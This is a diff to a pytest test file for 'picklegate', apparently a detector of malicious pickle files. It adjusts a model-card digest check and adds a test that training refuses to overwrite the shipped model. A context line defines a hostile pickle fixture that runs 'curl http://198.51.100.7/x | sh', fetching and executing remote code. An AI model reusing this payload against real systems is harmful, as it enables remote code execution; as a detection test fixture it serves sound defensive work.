@@ -14,7 +14,7 @@ pytest.importorskip("sklearn")
 from click.testing import CliRunner
 
 from picklegate.training import dataset, fit
-from picklegate.training.__main__ import main
+from picklegate.training.__main__ import DATA, main
 
 HOSTILE = b"cmy_kit\nrun_shell\n(S'curl http://198.51.100.7/x | sh'\ntR."
 
@@ -53,7 +53,8 @@ def test_the_same_seed_gives_the_same_bytes(tmp_path: Path, monkeypatch: pytest.
     first, second = ({path.name: path.read_bytes() for path in sorted(folder.iterdir())} for folder in folders)
     assert first == second
     card = json.loads(first["card.json"])
-    assert card["sha256"] == {name: fit.digest(data) for name, data in first.items() if name != "card.json"}
+    own = {name: digest for name, digest in card["sha256"].items() if name != "card.json"}
+    assert own == {name: fit.digest(data) for name, data in first.items() if name != "card.json"}
     assert card["training"]["data"]["real hostile files"] == {"files": 2, "groups": 1, "events": 2}
 
 
@@ -62,3 +63,14 @@ def test_a_folder_that_is_not_there_is_one_sentence(tmp_path: Path) -> None:
     done = CliRunner().invoke(main, ["fit", "--honest", str(tmp_path / "none")])
     assert done.exit_code == 2
     assert "does not exist" in done.output
+
+
+def test_own_files_never_replace_the_model_that_ships(tmp_path: Path) -> None:
+    """Without a folder to write to, or with the package's own, nothing is trained."""
+    honest, _ = _folders(tmp_path)
+    shown = CliRunner().invoke(main, ["fit", "--help"]).output
+    option = next(name for name in ("--honest ", "--benign ") if name in shown).strip()
+    for arguments, words in (([], "--output FOLDER"), (["--output", str(DATA)], "name another folder")):
+        done = CliRunner().invoke(main, ["fit", option, str(honest), *arguments])
+        assert done.exit_code == 2
+        assert words in done.output
